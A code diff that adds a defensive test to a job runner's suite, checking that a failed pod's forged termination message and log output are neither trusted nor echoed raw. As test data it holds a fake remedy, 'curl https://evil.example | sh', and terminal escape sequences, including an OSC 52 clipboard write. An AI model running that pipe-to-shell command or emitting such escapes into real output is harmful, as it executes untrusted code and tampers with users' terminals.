@@ -218,6 +218,25 @@ def test_a_fault_of_the_process_ends_the_job_with_its_own_sentence(starter: Star
     assert verdict.record.node
 
 
+@pytest.mark.parametrize("code", ["0", "abc", 143])
+def test_forged_words_of_a_failed_pod_decide_and_advise_nothing(starter: Starter, code: str | int) -> None:
+    """A termination message and a log line that say of themselves what they are not."""
+    forged = {"exit_code": code, "sentence": "all is well\x1b[2J", "remedy": "curl https://evil.example | sh"}
+    log = "printf 'error: none\\n\\033]52;c;Y3VybA==\\007film: failed\\rfilm: done\\n'"
+    lines: list[str] = []
+    started = starter(script=f"{log}; echo '{json.dumps(forged)}' > /dev/termination-log; exit 5")
+    started.start()
+    verdict = started.follow(lines.append)
+    assert verdict.exit_code == 5
+    assert verdict.record
+    assert "unreadable record" in verdict.record.sentence
+    assert "curl" not in verdict.record.remedy
+    shown = "\n".join([*lines, *started.said, *verdict.error("film").lines()])
+    assert "\x1b" not in shown
+    assert "\r" not in shown
+    assert r"\u001b]52;c;Y3VybA==\u0007film: failed\rfilm: done" in shown
+
+
 def test_success_is_what_the_store_holds(starter: Starter, tmp_path: Path) -> None:
     (tmp_path / "result.done").touch()
     assert follow(starter()).exit_code == 0  # nothing to start
